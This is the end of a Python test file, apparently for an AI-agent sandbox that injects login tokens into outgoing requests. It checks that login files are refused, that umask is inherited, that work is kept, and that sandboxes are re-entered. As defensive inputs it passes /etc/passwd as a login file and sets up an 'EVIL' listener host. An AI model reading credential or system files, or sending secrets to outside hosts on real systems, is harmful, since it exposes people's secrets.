    inside = home.put("auth.json", json.dumps(TOKENS))
    made = home.rows("ls")
    done = home.call("agent", "--login-file", inside, "--", "./robot")
    tap.ok(done.returncode == 125 and "lies in the workspace" in done.stderr and os.path.exists(inside) and home.rows("ls") == made and
           home.call("agent", "--name", "inside", "--login-file", inside, "--", "./robot").returncode == 125 and home.rows("ls") == made,
           "a login file in the workspace is refused, and nothing is made", (done, home.rows("ls")))
    os.unlink(inside)
    home.put("robot", "#!/bin/sh\numask > mask; echo x > new\n", 0o755)
    old = os.umask(0o022)
    home.call("agent", "--name", "masked", "--login-file", path, "--", "./robot")
    os.umask(old)
    done = home.call("exec", "masked", "--", "sh", "-c", "cat mask; stat -c %a new")
    tap.equal(done.stdout.split(), ["0022", "644"], "the agent has the caller's umask")
    home.call("rm", "masked")
    for bad in (home.put("token.txt", VALUE), "/etc/passwd", home.path + "/.robot/none"):
        done = home.call("agent", "--login-file", bad, "--", "./robot")
        tap.ok(done.returncode == 125, f"no such file: {os.path.basename(bad)}", done)


def test_agent_work(home):
    """What is no promotion is work all the same."""
    path = home.put(home.path + "/.robot/auth.json", json.dumps(TOKENS), 0o600)
    subprocess.run(["git", "init", "-q", home.work], check=True, env=home.env)
    home.put(".git/info/exclude", "out/\n")
    for name, script, where in (("ignored by git", "mkdir out; echo work > out/report.md", "out/report.md"),
                                ("in the home", "echo work > ~/note", home.path + "/note"),
                                ("beside the login", "echo work > ~/.robot/note", home.path + "/.robot/note"),
                                ("nothing", "true", None)):
        home.put("robot", f"#!/bin/sh\n{script}\n", 0o755)
        for flags in (["--login-file", path], ["--login", "tok"]):
            if where and where.endswith(".robot/note") and flags[0] == "--login":
                continue
            before = {row["name"] for row in home.rows("ls")}
            done = home.call("agent", *flags, "--", "./robot")
            kept = [row["name"] for row in home.rows("ls") if row["name"] not in before]
            tap.ok(done.returncode == 0 and "nothing to promote" in done.stderr and len(kept) == (where is not None) and
                   ("is kept" in done.stderr) == (where is not None), f"{name}, {flags[0]}: the sandbox stays if it has work in it", done)
            if kept:
                tap.equal(home.call("exec", kept[0], "--", "cat", where).stdout, "work\n", f"{name}, {flags[0]}: which is there")
                home.call("rm", *kept)
    shutil.rmtree(home.work + "/.git")


def test_agent_again(home):
    home.put("robot", "#!/bin/sh\ncurl -sS https://other.test/again >/dev/null\n", 0o755)
    home.call("create", "bare")
    seen.clear()
    done = home.call("agent", "--name", "bare", "--login", "tok", "--", "./robot")
    tap.ok(done.returncode == 125 and "made without --inject" in done.stderr and not seen and "bare" in [row["name"] for row in home.rows("ls")],
           "a sandbox that was made without the login is refused, and stays", done)
    flags = ["--name", "again", "--login", "tok", "--", "./robot"]
    first = home.call("agent", *flags)
    done = home.call("agent", "--allow", "api.test", *flags)
    tap.ok(first.returncode == done.returncode == 0 and given() == ["Bearer " + VALUE] * 2 and "already" not in first.stderr and
           "settings that it was made with hold" in done.stderr, "one that was made with it is entered again, and says what holds",
           (first, done, seen))
    home.call("rm", "bare", "again")


def main():
    enter()
    with Home("aisbx-test-inject.") as home:
        build_internet(home)
        for address in (API, BAD):
            subprocess.run(["ip", "addr", "add", address + "/32", "dev", "lo"], check=True)
        at = certificates(home, {"api": ["api.test", "twin.test", "other.test", "api.anthropic.com"], "bad": ["another.test"]})
        listen(API, 443, behind_tls(at, "api", server))
        listen(API, 8443, behind_tls(at, "api", server))
        listen(BAD, 443, behind_tls(at, "bad", server))
        listen(API, 8000, server)
        listen(EVIL, 8000, server)
        home.call("secret", "set", "tok", stdin=VALUE)
        if not os.path.exists(os.path.join(os.path.dirname(AISBX), "aisbx-gateway")):
            tap.skip("secrets in requests", "built without OpenSSL")
        elif home.can_run(tap, "secrets in requests"):
            for test in (test_programs, test_ways, test_echo, test_smuggled, test_reading, test_certificate, test_kept, test_named,
                         test_refused, test_elsewhere, test_pipelined, test_narrowed, test_twice, test_upgrade, test_renewed, test_random,
                         test_mcp, test_agent, test_agent_file, test_agent_work, test_agent_again):
                tap.attempt(test, home)
    tap.done()


main()
